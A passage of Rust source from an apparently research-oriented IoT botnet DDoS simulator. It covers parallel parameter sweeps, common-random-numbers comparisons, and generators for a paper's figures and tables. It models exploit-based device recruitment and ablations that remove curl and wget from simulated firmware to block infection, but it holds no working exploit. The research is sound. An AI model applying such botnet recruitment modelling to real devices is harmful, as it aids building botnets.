            results[1].avg_received_data_rate_kbps
        );
        assert_eq!(results[0].packets_sent, results[1].packets_sent);
    }

    #[test]
    fn one_failing_config_does_not_poison_the_sweep() {
        // devs = 0 fails validation inside the worker thread; before
        // try_run_configs this panicked the worker, poisoned the results
        // mutex, and aborted every other row of the sweep.
        let invalid = SimulationConfig { devs: 0, ..small(2, 1) };
        let outcomes = try_run_configs(vec![small(2, 1), invalid, small(3, 2)]);
        assert_eq!(outcomes.len(), 3);
        assert_eq!(outcomes[0].as_ref().map(|r| r.devs), Ok(2));
        assert_eq!(outcomes[2].as_ref().map(|r| r.devs), Ok(3));
        let err = outcomes[1].as_ref().expect_err("devs = 0 must fail");
        assert!(err.contains("configuration 1 invalid"), "got: {err}");
    }

    #[test]
    fn run_configs_panics_with_aggregate_message_on_failure() {
        let invalid = SimulationConfig { devs: 0, ..small(2, 1) };
        let panic = catch_unwind(AssertUnwindSafe(|| run_configs(vec![small(2, 1), invalid])))
            .expect_err("run_configs must propagate the failure");
        let msg = panic_message(&*panic);
        assert!(msg.contains("1 of 2 runs"), "got: {msg}");
    }

    #[test]
    fn empty_sweep_returns_empty() {
        assert!(try_run_configs(Vec::new()).is_empty());
        assert!(run_configs(Vec::new()).is_empty());
    }

    #[test]
    fn single_config_sweep_matches_direct_run() {
        let direct = Ddosim::new(small(3, 5)).expect("valid").run_to_completion();
        let swept = try_run_configs(vec![small(3, 5)]);
        assert_eq!(swept.len(), 1);
        let r = swept[0].as_ref().expect("run completes");
        assert_eq!(r.packets_sent, direct.packets_sent);
        assert_eq!(
            r.avg_received_data_rate_kbps,
            direct.avg_received_data_rate_kbps
        );
    }

    #[test]
    fn many_more_configs_than_threads_all_complete_in_order() {
        let threads = std::thread::available_parallelism()
            .map(std::num::NonZeroUsize::get)
            .unwrap_or(4);
        let n = threads * 3 + 1;
        let configs: Vec<SimulationConfig> = (0..n).map(|i| small(2, i as u64)).collect();
        let outcomes = try_run_configs(configs);
        assert_eq!(outcomes.len(), n);
        for (i, outcome) in outcomes.iter().enumerate() {
            let r = outcome.as_ref().unwrap_or_else(|e| panic!("row {i}: {e}"));
            assert_eq!(r.seed, i as u64, "row {i} out of input order");
        }
    }

    #[test]
    fn poisoned_row_panic_reports_location_and_other_rows_complete() {
        // tserver_link_bps = 0 passes validation but panics mid-run (the
        // zero-rate tx_delay) once attack traffic reaches the TServer
        // link — a worker *panic*, not an Err. It must cost only its own
        // row, rows on both sides still complete in input order, and the
        // failure string must carry the panic's file:line.
        let poisoned = SimulationConfig {
            tserver_link_bps: 0,
            ..small(2, 1)
        };
        let outcomes = try_run_configs(vec![small(2, 1), poisoned, small(3, 2)]);
        assert_eq!(outcomes.len(), 3);
        assert_eq!(outcomes[0].as_ref().map(|r| r.devs), Ok(2));
        assert_eq!(outcomes[2].as_ref().map(|r| r.devs), Ok(3));
        let err = outcomes[1].as_ref().expect_err("zero-rate link must panic");
        assert!(err.contains("run 1 panicked"), "got: {err}");
        assert!(err.contains(".rs:"), "panic location missing from: {err}");
    }

    #[test]
    fn panic_location_slot_is_consumed_per_thread() {
        install_location_hook();
        let outcome = catch_unwind(AssertUnwindSafe(|| -> u32 { panic!("boom") }));
        assert!(outcome.is_err());
        let loc = take_panic_location();
        assert!(
            loc.contains("experiment.rs"),
            "location hook must capture this file, got: '{loc}'"
        );
        assert_eq!(take_panic_location(), "", "slot must clear after take");
    }

    #[test]
    fn run_suffixes_empty_and_identity() {
        let mut parent = Ddosim::new(small(3, 11)).expect("valid");
        parent.run_prefix(Duration::from_secs(20)).expect("prefix runs");
        assert!(run_suffixes(&parent, &[]).is_empty());
        let straight = Ddosim::new(small(3, 11)).expect("valid").run_to_completion();
        let rows = run_suffixes(
            &parent,
            &[
                crate::suffix::SuffixSpec::identity("a"),
                crate::suffix::SuffixSpec::identity("b"),
            ],
        );
        assert_eq!(rows.len(), 2);
        for row in &rows {
            let r = row.as_ref().expect("identity suffix completes");
            assert_eq!(r.packets_sent, straight.packets_sent);
            assert_eq!(r.flood_packets_received, straight.flood_packets_received);
        }
    }

    #[test]
    fn run_suffixes_bad_horizon_costs_only_its_row() {
        let mut parent = Ddosim::new(small(3, 11)).expect("valid");
        parent.run_prefix(Duration::from_secs(20)).expect("prefix runs");
        let bad = crate::suffix::SuffixSpec {
            horizon: Some(Duration::from_secs(1)),
            ..crate::suffix::SuffixSpec::identity("bad")
        };
        let rows = run_suffixes(
            &parent,
            &[crate::suffix::SuffixSpec::identity("ok"), bad],
        );
        assert!(rows[0].is_ok());
        let err = rows[1].as_ref().expect_err("horizon before attack end");
        assert!(err.contains("suffix 1 invalid"), "got: {err}");
        assert!(err.contains("horizon"), "got: {err}");
    }
}
