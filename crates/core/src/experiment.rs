//! The paper's experiment series: parameter sweeps that regenerate every
//! table and figure of §IV.
//!
//! Each function returns typed rows; the `ddosim-bench` binaries render
//! them with [`crate::report::Table`] and record them for EXPERIMENTS.md.
//! Sweeps run their configurations in parallel (one simulator per thread;
//! simulators are single-threaded worlds).
//!
//! Two sweep modes layer on top of the plain batch runners:
//!
//! * **Streaming** — [`try_run_configs_streamed`] / [`run_suffixes_streamed`]
//!   fire a per-row callback the moment a worker finishes, then still return
//!   the full result set in input order. The batch runners are thin wrappers
//!   over the streamed ones, so per-row outcomes are byte-identical by
//!   construction.
//! * **Common random numbers (CRN)** — [`crn_compare`] pairs a baseline
//!   against treatments with a shared [`RngPlan::pinned`] noise plan per
//!   replicate, so the A−B difference subtracts out world/event/fault noise;
//!   the paired experiment variants (`fig2_paired` …) report the measured
//!   variance reduction against independent seeding.

use crate::config::{Recruitment, RngPlan, SimulationBuilder, SimulationConfig};
use crate::instance::Ddosim;
use crate::result::RunResult;
use crate::suffix::SuffixSpec;
use churn::ChurnMode;
use firmware::CommandSet;
use std::cell::RefCell;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, Once, PoisonError};
use std::time::Duration;
use tinyvm::{ProtectionMix, Protections};

/// Renders a panic payload (the `Box<dyn Any>` from [`catch_unwind`]) as
/// the message string it almost always carries. Public so every per-row
/// isolation site (sweeps, scenario grids, serve-mode jobs) reports
/// panics the same way.
pub fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_owned()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_owned()
    }
}

thread_local! {
    static LAST_PANIC_LOCATION: RefCell<Option<String>> = const { RefCell::new(None) };
}

static INSTALL_LOCATION_HOOK: Once = Once::new();

/// Installs (once, process-wide) a panic hook that remembers the last
/// panic's `file:line` for the panicking thread, chaining to the previous
/// hook. [`catch_unwind`] only yields the payload; the location lives in
/// the hook's `PanicHookInfo`, so without this a worker panic reports
/// *what* fired but not *where*.
pub fn install_location_hook() {
    INSTALL_LOCATION_HOOK.call_once(|| {
        let prev = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            let loc = info
                .location()
                .map(|l| format!("{}:{}", l.file(), l.line()));
            LAST_PANIC_LOCATION.with(|c| *c.borrow_mut() = loc);
            prev(info);
        }));
    });
}

/// Takes (and clears) the location of the current thread's last panic,
/// rendered as ` at file:line` (empty when no location was captured).
pub fn take_panic_location() -> String {
    LAST_PANIC_LOCATION
        .with(|c| c.borrow_mut().take())
        .map(|l| format!(" at {l}"))
        .unwrap_or_default()
}

/// Runs each configuration (in parallel across available threads) and
/// returns per-run outcomes in input order: `Ok(result)` for runs that
/// completed, `Err(message)` for configurations that were invalid or
/// panicked mid-run. One bad point in a sweep costs that row, not the
/// hours of completed rows around it.
pub fn try_run_configs(configs: Vec<SimulationConfig>) -> Vec<Result<RunResult, String>> {
    try_run_configs_streamed(configs, |_, _| {})
}

/// [`try_run_configs`] with streaming delivery: `on_row(i, outcome)` fires
/// on the calling thread the moment row `i` finishes (completion order,
/// not input order), and the full outcome set still comes back in input
/// order. The batch runner is this function with a no-op callback, so a
/// streamed row is byte-identical to the batch runner's row for the same
/// configurations.
pub fn try_run_configs_streamed(
    configs: Vec<SimulationConfig>,
    mut on_row: impl FnMut(usize, &Result<RunResult, String>),
) -> Vec<Result<RunResult, String>> {
    install_location_hook();
    let n = configs.len();
    let threads = std::thread::available_parallelism()
        .map(std::num::NonZeroUsize::get)
        .unwrap_or(4)
        .min(n.max(1));
    let next = AtomicUsize::new(0);
    let mut results: Vec<Option<Result<RunResult, String>>> = (0..n).map(|_| None).collect();
    let (tx, rx) = std::sync::mpsc::channel::<(usize, Result<RunResult, String>)>();
    std::thread::scope(|scope| {
        let configs = &configs;
        let next = &next;
        for _ in 0..threads {
            let tx = tx.clone();
            scope.spawn(move || loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= n {
                    break;
                }
                let config = configs[i].clone();
                // A panicking run must not take down the whole sweep:
                // catch it here and record it as this row's outcome. The
                // worker loop then moves on to the next configuration.
                let outcome =
                    match catch_unwind(AssertUnwindSafe(|| {
                        Ddosim::new(config).map(Ddosim::run_to_completion)
                    })) {
                        Ok(Ok(result)) => Ok(result),
                        Ok(Err(msg)) => Err(format!("configuration {i} invalid: {msg}")),
                        Err(payload) => Err(format!(
                            "run {i} panicked{}: {}",
                            take_panic_location(),
                            panic_message(&*payload)
                        )),
                    };
                if tx.send((i, outcome)).is_err() {
                    // Receiver gone (the callback panicked): stop working.
                    break;
                }
            });
        }
        // The workers hold the remaining senders; dropping ours lets the
        // drain loop end exactly when the last worker exits.
        drop(tx);
        for (i, outcome) in rx {
            on_row(i, &outcome);
            results[i] = Some(outcome);
        }
    });
    results
        .into_iter()
        .map(|r| r.expect("every index was produced"))
        .collect()
}

/// A forked [`Ddosim`] crossing a thread boundary.
///
/// SAFETY: `Ddosim::fork` deep-clones the whole world — every `Rc` in the
/// fork's object graph (containers, TCP state, telemetry collectors) is
/// freshly allocated and reachable only through this fork, so moving the
/// world to another thread moves *all* owners of each `Rc` together.
/// `Arc`-shared content (firmware images, served files, propagation
/// target lists) is plain immutable data.
struct SendWorld(Ddosim);
unsafe impl Send for SendWorld {}

/// One completed scenario-tree branch: the run's result plus — when the
/// world records — the fork's full flight-recorder trace. The trace
/// includes the shared prefix (a fork inherits the parent's recorder
/// contents and sequence counter), so diffing it against a
/// straight-through run's trace proves fork equivalence byte for byte.
#[derive(Debug)]
pub struct SuffixOutcome {
    /// The branch's run result.
    pub result: RunResult,
    /// The branch's flight-recorder document, if recording was enabled.
    pub trace: Option<djson::Json>,
}

/// Fans a scenario tree's suffixes out across the worker pool: forks
/// `parent` once per suffix (decorrelated by each suffix's fork seed),
/// applies the suffix's divergence, and runs every fork to completion.
/// Outcomes come back in input order, one per suffix — `Err` rows carry
/// the fork/apply/run failure without costing the rows around them.
///
/// The parent must already stand at the fork point (run it there with
/// [`Ddosim::run_prefix`]); it is only read, never advanced, so the
/// caller can fork it again for another round.
pub fn run_suffixes(parent: &Ddosim, suffixes: &[SuffixSpec]) -> Vec<Result<RunResult, String>> {
    run_suffixes_traced(parent, suffixes)
        .into_iter()
        .map(|row| row.map(|o| o.result))
        .collect()
}

/// [`run_suffixes`], but each successful row also carries the fork's
/// flight-recorder trace (see [`SuffixOutcome`]).
pub fn run_suffixes_traced(
    parent: &Ddosim,
    suffixes: &[SuffixSpec],
) -> Vec<Result<SuffixOutcome, String>> {
    run_suffixes_streamed(parent, suffixes, |_, _| {})
}

/// [`run_suffixes_traced`] with streaming delivery: `on_row(i, outcome)`
/// fires on the calling thread as each branch finishes (completion order),
/// and the full outcome set still comes back in input order.
///
/// Forking is lazy: the calling thread forks one world at a time into a
/// bounded hand-off queue, so at most `2 × threads + 2` forked worlds are
/// alive at once — peak memory is O(threads × world size), not
/// O(suffixes × world size) as it was when every fork happened up front.
pub fn run_suffixes_streamed(
    parent: &Ddosim,
    suffixes: &[SuffixSpec],
    on_row: impl FnMut(usize, &Result<SuffixOutcome, String>),
) -> Vec<Result<SuffixOutcome, String>> {
    run_suffixes_bounded(parent, suffixes, on_row, &AtomicUsize::new(0))
}

/// [`run_suffixes_streamed`] with an externally observable high-water mark
/// of simultaneously live forked worlds (`peak_live`) — the lazy-forking
/// invariant the tests pin down.
fn run_suffixes_bounded(
    parent: &Ddosim,
    suffixes: &[SuffixSpec],
    mut on_row: impl FnMut(usize, &Result<SuffixOutcome, String>),
    peak_live: &AtomicUsize,
) -> Vec<Result<SuffixOutcome, String>> {
    install_location_hook();
    let n = suffixes.len();
    let threads = std::thread::available_parallelism()
        .map(std::num::NonZeroUsize::get)
        .unwrap_or(4)
        .min(n.max(1));
    let mut results: Vec<Option<Result<SuffixOutcome, String>>> = (0..n).map(|_| None).collect();
    // Live-world accounting: +1 when a fork is produced, −1 when its run
    // consumed it. The bounded hand-off queue (capacity `threads`) is what
    // enforces the O(threads) ceiling: a full queue blocks the producer
    // before it forks world `threads + running + 1`.
    let live = AtomicUsize::new(0);
    let (work_tx, work_rx) =
        std::sync::mpsc::sync_channel::<(usize, Result<SendWorld, String>)>(threads);
    let work_rx = Mutex::new(work_rx);
    let (done_tx, done_rx) = std::sync::mpsc::channel::<(usize, Result<SuffixOutcome, String>)>();
    std::thread::scope(|scope| {
        let work_rx = &work_rx;
        let live = &live;
        for _ in 0..threads {
            let done_tx = done_tx.clone();
            scope.spawn(move || loop {
                // Holding the lock across recv() is fine: exactly one
                // worker waits on the channel, the rest queue on the lock.
                let msg = work_rx
                    .lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .recv();
                let Ok((i, world)) = msg else { break };
                let outcome = match world {
                    Err(msg) => Err(format!("suffix {i} invalid: {msg}")),
                    Ok(SendWorld(w)) => {
                        // The handle shares the fork's collectors, so it
                        // stays readable after the run consumes the world.
                        let tele = w.telemetry().clone();
                        let outcome =
                            match catch_unwind(AssertUnwindSafe(|| w.try_run_to_completion())) {
                                Ok(Ok((result, _))) => Ok(SuffixOutcome {
                                    result,
                                    trace: tele.recorder_json(),
                                }),
                                Ok(Err(msg)) => Err(format!("suffix {i} failed: {msg}")),
                                Err(payload) => Err(format!(
                                    "suffix {i} panicked{}: {}",
                                    take_panic_location(),
                                    panic_message(&*payload)
                                )),
                            };
                        // The world is gone (consumed by the run, or
                        // dropped during the unwind) either way.
                        live.fetch_sub(1, Ordering::Relaxed);
                        outcome
                    }
                };
                if done_tx.send((i, outcome)).is_err() {
                    break;
                }
            });
        }
        // Workers hold the remaining result senders; dropping ours makes a
        // dead pool an error on recv() instead of a hang.
        drop(done_tx);
        let mut received = 0usize;
        for (i, spec) in suffixes.iter().enumerate() {
            let world = parent.fork_with_seed(spec.fork_seed).and_then(|mut w| {
                w.apply_suffix(spec)?;
                Ok(SendWorld(w))
            });
            if world.is_ok() {
                let now_live = live.fetch_add(1, Ordering::Relaxed) + 1;
                peak_live.fetch_max(now_live, Ordering::Relaxed);
            }
            // Drain finished rows before (possibly) blocking on the
            // hand-off, so callbacks fire as branches complete rather than
            // only after the last fork is produced.
            while let Ok((j, outcome)) = done_rx.try_recv() {
                on_row(j, &outcome);
                results[j] = Some(outcome);
                received += 1;
            }
            work_tx.send((i, world)).expect("a worker is receiving");
        }
        drop(work_tx);
        while received < n {
            let (j, outcome) = done_rx.recv().expect("workers produce every row");
            on_row(j, &outcome);
            results[j] = Some(outcome);
            received += 1;
        }
    });
    results
        .into_iter()
        .map(|r| r.expect("every index was produced"))
        .collect()
}

/// Runs each configuration (in parallel across available threads) and
/// returns results in input order.
///
/// # Panics
///
/// Panics if any configuration is invalid or any run panicked — sweep code
/// constructs its own configurations, so this indicates a programming
/// error. Unlike a raw worker panic, the message aggregates *all* failed
/// rows after every other row has finished. Use [`try_run_configs`] to
/// keep partial results instead.
pub fn run_configs(configs: Vec<SimulationConfig>) -> Vec<RunResult> {
    let outcomes = try_run_configs(configs);
    let failures: Vec<String> = outcomes
        .iter()
        .filter_map(|r| r.as_ref().err().cloned())
        .collect();
    assert!(
        failures.is_empty(),
        "sweep failed on {} of {} runs: {}",
        failures.len(),
        outcomes.len(),
        failures.join("; ")
    );
    outcomes
        .into_iter()
        .map(|r| r.expect("failures are empty"))
        .collect()
}

fn mean(values: impl Iterator<Item = f64>) -> f64 {
    let v: Vec<f64> = values.collect();
    if v.is_empty() {
        return 0.0;
    }
    v.iter().sum::<f64>() / v.len() as f64
}

/// Unbiased sample variance (n − 1 denominator); 0 for fewer than two
/// samples.
fn sample_variance(values: &[f64]) -> f64 {
    if values.len() < 2 {
        return 0.0;
    }
    let m = mean(values.iter().copied());
    values.iter().map(|v| (v - m) * (v - m)).sum::<f64>() / (values.len() - 1) as f64
}

/// One treatment of a common-random-numbers comparison: the paired
/// (shared-noise) A−B statistics next to the same comparison run with
/// independent seeds, so the variance reduction CRN buys is measured, not
/// assumed.
#[derive(Debug, Clone)]
pub struct CrnComparison {
    /// Human-readable treatment label.
    pub label: String,
    /// Mean metric of the baseline arm (paired replicates).
    pub baseline_mean: f64,
    /// Mean metric of the treatment arm (paired replicates).
    pub treatment_mean: f64,
    /// Mean paired difference (treatment − baseline).
    pub diff_mean: f64,
    /// Sample variance of the per-replicate difference under shared noise.
    pub paired_diff_var: f64,
    /// Sample variance of the per-replicate difference under independent
    /// seeds.
    pub independent_diff_var: f64,
    /// `independent_diff_var / paired_diff_var` — how many times fewer
    /// replicates the paired design needs for the same standard error
    /// (`f64::INFINITY` when pairing removes the noise entirely).
    pub variance_ratio: f64,
    /// Replicates per arm.
    pub replicates: u64,
}

/// Runs a paired common-random-numbers comparison of `baseline` against
/// each labelled treatment, next to the identical comparison with
/// independent seeds.
///
/// Per replicate `r`, the paired arms both carry
/// [`RngPlan::pinned`]`(base_seed + r)` — identical world, event, and
/// fault streams, so the treatment is the *only* thing that differs — and
/// the independent arms draw disjoint seeds with the default plan. All
/// runs go through one [`run_configs`] pool batch.
///
/// # Panics
///
/// Panics if `replicates < 2` (a variance needs two samples) or if any
/// constructed configuration fails to run (as [`run_configs`]).
pub fn crn_compare(
    baseline: &SimulationConfig,
    treatments: &[(String, SimulationConfig)],
    replicates: u64,
    base_seed: u64,
    metric: impl Fn(&RunResult) -> f64,
) -> Vec<CrnComparison> {
    assert!(replicates >= 2, "CRN comparison needs at least two replicates");
    // Disjoint seed blocks keep the independent arms genuinely
    // independent — of the paired arms and of each other.
    const INDEP_BASELINE_BLOCK: u64 = 10_000;
    const INDEP_TREATMENT_BLOCK: u64 = 20_000;
    let with_pinned = |c: &SimulationConfig, rep: u64| {
        let mut c = c.clone();
        c.seed = base_seed + rep;
        c.rng = RngPlan::pinned(base_seed + rep);
        c
    };
    let with_seed = |c: &SimulationConfig, block: u64, rep: u64| {
        let mut c = c.clone();
        c.seed = base_seed + block + rep;
        c.rng = RngPlan::default();
        c
    };
    let reps = replicates as usize;
    let mut configs = Vec::with_capacity(reps * 2 * (treatments.len() + 1));
    for rep in 0..replicates {
        configs.push(with_pinned(baseline, rep));
    }
    for rep in 0..replicates {
        configs.push(with_seed(baseline, INDEP_BASELINE_BLOCK, rep));
    }
    for (k, (_, treatment)) in treatments.iter().enumerate() {
        for rep in 0..replicates {
            configs.push(with_pinned(treatment, rep));
        }
        for rep in 0..replicates {
            configs.push(with_seed(
                treatment,
                INDEP_TREATMENT_BLOCK + k as u64 * replicates,
                rep,
            ));
        }
    }
    let results = run_configs(configs);
    let vals = |block: usize| -> Vec<f64> {
        results[block * reps..(block + 1) * reps]
            .iter()
            .map(&metric)
            .collect()
    };
    let paired_base = vals(0);
    let indep_base = vals(1);
    treatments
        .iter()
        .enumerate()
        .map(|(k, (label, _))| {
            let paired_treat = vals(2 + 2 * k);
            let indep_treat = vals(3 + 2 * k);
            let paired_diffs: Vec<f64> = paired_treat
                .iter()
                .zip(&paired_base)
                .map(|(t, b)| t - b)
                .collect();
            let indep_diffs: Vec<f64> = indep_treat
                .iter()
                .zip(&indep_base)
                .map(|(t, b)| t - b)
                .collect();
            let paired_diff_var = sample_variance(&paired_diffs);
            let independent_diff_var = sample_variance(&indep_diffs);
            let variance_ratio = if paired_diff_var > 0.0 {
                independent_diff_var / paired_diff_var
            } else if independent_diff_var > 0.0 {
                f64::INFINITY
            } else {
                1.0
            };
            CrnComparison {
                label: label.clone(),
                baseline_mean: mean(paired_base.iter().copied()),
                treatment_mean: mean(paired_treat.iter().copied()),
                diff_mean: mean(paired_diffs.iter().copied()),
                paired_diff_var,
                independent_diff_var,
                variance_ratio,
                replicates,
            }
        })
        .collect()
}

/// One point of Figure 2.
#[derive(Debug, Clone)]
pub struct Fig2Point {
    /// Number of Devs.
    pub devs: usize,
    /// Churn variant.
    pub churn: ChurnMode,
    /// Mean average received data rate over replicates (kbps).
    pub avg_kbps: f64,
    /// Mean infected count over replicates.
    pub infected: f64,
    /// Per-replicate results.
    pub runs: Vec<RunResult>,
}

/// Figure 2: average received data rate vs number of Devs, for each churn
/// level; 100-second attack (§IV-B).
pub fn fig2(dev_counts: &[usize], replicates: u64, base_seed: u64) -> Vec<Fig2Point> {
    let modes = [ChurnMode::None, ChurnMode::Static, ChurnMode::Dynamic];
    let mut configs = Vec::new();
    for &devs in dev_counts {
        for &mode in &modes {
            for rep in 0..replicates {
                configs.push(
                    SimulationBuilder::new()
                        .devs(devs)
                        .churn(mode)
                        .seed(base_seed + rep)
                        .config()
                        .clone(),
                );
            }
        }
    }
    let results = run_configs(configs);
    let mut points = Vec::new();
    let mut it = results.into_iter();
    for &devs in dev_counts {
        for &mode in &modes {
            let runs: Vec<RunResult> = (&mut it).take(replicates as usize).collect();
            points.push(Fig2Point {
                devs,
                churn: mode,
                avg_kbps: mean(runs.iter().map(|r| r.avg_received_data_rate_kbps)),
                infected: mean(runs.iter().map(|r| r.infected as f64)),
                runs,
            });
        }
    }
    points
}

/// One point of Figure 3.
#[derive(Debug, Clone)]
pub struct Fig3Point {
    /// Number of Devs in the round.
    pub devs: usize,
    /// Commanded attack duration (seconds).
    pub duration_secs: u64,
    /// Mean average received data rate (kbps).
    pub avg_kbps: f64,
    /// Per-replicate results.
    pub runs: Vec<RunResult>,
}

/// Figure 3: average received data rate vs attack duration (150/200/300 s),
/// across rounds of 50/100/150/200 Devs (§IV-B); no churn.
pub fn fig3(
    dev_counts: &[usize],
    durations_secs: &[u64],
    replicates: u64,
    base_seed: u64,
) -> Vec<Fig3Point> {
    let mut configs = Vec::new();
    for &devs in dev_counts {
        for &dur in durations_secs {
            for rep in 0..replicates {
                configs.push(
                    SimulationBuilder::new()
                        .devs(devs)
                        .attack(crate::AttackSpec::udp_plain(Duration::from_secs(dur)))
                        .seed(base_seed + rep)
                        .config()
                        .clone(),
                );
            }
        }
    }
    let results = run_configs(configs);
    let mut points = Vec::new();
    let mut it = results.into_iter();
    for &devs in dev_counts {
        for &dur in durations_secs {
            let runs: Vec<RunResult> = (&mut it).take(replicates as usize).collect();
            points.push(Fig3Point {
                devs,
                duration_secs: dur,
                avg_kbps: mean(runs.iter().map(|r| r.avg_received_data_rate_kbps)),
                runs,
            });
        }
    }
    points
}

/// One row of Table I.
#[derive(Debug, Clone)]
pub struct Table1Row {
    /// Number of Devs.
    pub devs: usize,
    /// Pre-attack memory (GB).
    pub pre_attack_mem_gb: f64,
    /// Attack-phase memory (GB).
    pub attack_mem_gb: f64,
    /// Attack wall-clock, `m:ss`.
    pub attack_time: String,
    /// Raw attack wall-clock seconds.
    pub attack_wall_clock_secs: f64,
}

/// Table I: hardware resources consumed vs number of Devs (20–130),
/// 100-second attack, no churn (§IV-B).
pub fn table1(dev_counts: &[usize], base_seed: u64) -> Vec<Table1Row> {
    let configs: Vec<SimulationConfig> = dev_counts
        .iter()
        .map(|&devs| SimulationBuilder::new().devs(devs).seed(base_seed).config().clone())
        .collect();
    // Wall-clock is the measurement here: run sequentially so runs do not
    // contend for cores.
    let results: Vec<RunResult> = configs
        .into_iter()
        .map(|c| {
            Ddosim::new(c)
                .expect("table1 configurations are valid")
                .run_to_completion()
        })
        .collect();
    dev_counts
        .iter()
        .zip(results)
        .map(|(&devs, r)| Table1Row {
            devs,
            pre_attack_mem_gb: r.pre_attack_mem_gb,
            attack_mem_gb: r.attack_mem_gb,
            attack_time: r.attack_time_m_ss(),
            attack_wall_clock_secs: r.attack_wall_clock_secs,
        })
        .collect()
}

/// One cell of the infection-rate matrix (R1/R2).
#[derive(Debug, Clone)]
pub struct InfectionPoint {
    /// Protection configuration of all Devs in the run.
    pub protections: Protections,
    /// Exploit strategy used by the Attacker.
    pub strategy: crate::ExploitStrategy,
    /// Fraction of Devs recruited.
    pub infection_rate: f64,
    /// Mean seconds from start to infection (recruited Devs only).
    pub mean_time_to_infection_secs: f64,
}

/// R1/R2: infection rate by (protections × exploit strategy). The paper's
/// headline cell is leak+rebase against random protection subsets → 100%.
pub fn infection_matrix(devs: usize, base_seed: u64) -> Vec<InfectionPoint> {
    let strategies = [
        crate::ExploitStrategy::LeakRebase,
        crate::ExploitStrategy::StaticChain,
        crate::ExploitStrategy::CodeInjection,
    ];
    let mut configs = Vec::new();
    for &p in &Protections::ALL_SUBSETS {
        for &s in &strategies {
            configs.push(
                SimulationBuilder::new()
                    .devs(devs)
                    .protections(ProtectionMix::Uniform(p))
                    .strategy(s)
                    .seed(base_seed)
                    .config()
                    .clone(),
            );
        }
    }
    let results = run_configs(configs);
    let mut points = Vec::new();
    let mut it = results.into_iter();
    for &p in &Protections::ALL_SUBSETS {
        for &s in &strategies {
            let r = it.next().expect("one result per cell");
            let mean_t = mean(r.infection_times_secs.iter().copied());
            points.push(InfectionPoint {
                protections: p,
                strategy: s,
                infection_rate: r.infection_rate,
                mean_time_to_infection_secs: mean_t,
            });
        }
    }
    points
}

/// One row of the hardening/insight ablations (§IV-C).
#[derive(Debug, Clone)]
pub struct AblationRow {
    /// Human-readable ablation label.
    pub label: String,
    /// Infection rate achieved.
    pub infection_rate: f64,
    /// Average received data rate (kbps).
    pub avg_kbps: f64,
}

/// §IV-C insight ablations: removing `curl` blocks infection; capping the
/// device data rate caps attack magnitude.
pub fn ablations(devs: usize, base_seed: u64) -> Vec<AblationRow> {
    let cases: Vec<(String, SimulationConfig)> = vec![
        (
            "baseline (curl present, 100-500 kbps)".to_owned(),
            SimulationBuilder::new().devs(devs).seed(base_seed).config().clone(),
        ),
        (
            "vendor removes curl".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .commands(CommandSet::without(&["curl"]))
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "vendor removes wget (stage-2 blocked)".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .commands(CommandSet::without(&["wget"]))
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "device data rate capped at 100-150 kbps".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .access_rate_kbps(100..=150)
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "device data rate 400-500 kbps".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .access_rate_kbps(400..=500)
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "firmware rebuilt with stack canaries".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .protections(ProtectionMix::Uniform(Protections::HARDENED))
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "tiered Internet (5 regions x 5 Mbps uplinks)".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .topology(crate::TopologyKind::Tiered {
                    regions: 5,
                    region_uplink_bps: 5_000_000,
                })
                .seed(base_seed)
                .config()
                .clone(),
        ),
    ];
    let (labels, configs): (Vec<String>, Vec<SimulationConfig>) = cases.into_iter().unzip();
    let results = run_configs(configs);
    labels
        .into_iter()
        .zip(results)
        .map(|(label, r)| AblationRow {
            label,
            infection_rate: r.infection_rate,
            avg_kbps: r.avg_received_data_rate_kbps,
        })
        .collect()
}

/// Comparison of recruitment mechanisms: the paper's memory-error entry
/// point vs the Mirai-classic credential dictionary.
#[derive(Debug, Clone)]
pub struct RecruitmentRow {
    /// Mechanism label.
    pub label: String,
    /// Fraction of Devs recruited.
    pub infection_rate: f64,
    /// Average received data rate achieved by the resulting botnet (kbps).
    pub avg_kbps: f64,
}

/// Memory-error recruitment vs credential-scanner baseline at several
/// default-credential prevalence levels.
pub fn recruitment_comparison(devs: usize, base_seed: u64) -> Vec<RecruitmentRow> {
    let mut cases: Vec<(String, SimulationConfig)> = vec![(
        "memory-error exploitation (paper)".to_owned(),
        SimulationBuilder::new().devs(devs).seed(base_seed).config().clone(),
    )];
    for frac in [0.2, 0.5, 0.8] {
        cases.push((
            format!("credential scanner, {:.0}% default creds", frac * 100.0),
            SimulationBuilder::new()
                .devs(devs)
                .recruitment(Recruitment::CredentialScanner {
                    default_credential_fraction: frac,
                })
                .seed(base_seed)
                .config()
                .clone(),
        ));
    }
    let (labels, configs): (Vec<String>, Vec<SimulationConfig>) = cases.into_iter().unzip();
    let results = run_configs(configs);
    labels
        .into_iter()
        .zip(results)
        .map(|(label, r)| RecruitmentRow {
            label,
            infection_rate: r.infection_rate,
            avg_kbps: r.avg_received_data_rate_kbps,
        })
        .collect()
}

/// Figure 2's churn comparison as a paired-CRN experiment: static and
/// dynamic churn against the churn-free baseline at `devs` devices, metric
/// = average received data rate (kbps).
pub fn fig2_paired(devs: usize, replicates: u64, base_seed: u64) -> Vec<CrnComparison> {
    let base = SimulationBuilder::new().devs(devs).config().clone();
    let treatments = vec![
        (
            "static churn".to_owned(),
            SimulationBuilder::new().devs(devs).churn(ChurnMode::Static).config().clone(),
        ),
        (
            "dynamic churn".to_owned(),
            SimulationBuilder::new().devs(devs).churn(ChurnMode::Dynamic).config().clone(),
        ),
    ];
    crn_compare(&base, &treatments, replicates, base_seed, |r| {
